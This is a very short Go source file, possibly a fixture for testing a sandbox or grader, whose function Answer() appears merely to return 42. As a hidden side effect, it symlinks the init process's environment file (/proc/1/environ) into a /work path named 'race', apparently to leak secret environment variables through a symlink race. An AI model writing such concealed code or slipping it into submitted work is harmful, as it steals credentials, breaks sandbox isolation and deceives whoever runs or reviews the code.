package open

import (
	"fmt"
	"os"
)

func Answer() int {
	_ = os.Symlink("/proc/1/environ", fmt.Sprintf("/work/race.%d", os.Getpid()))
	return 42
}
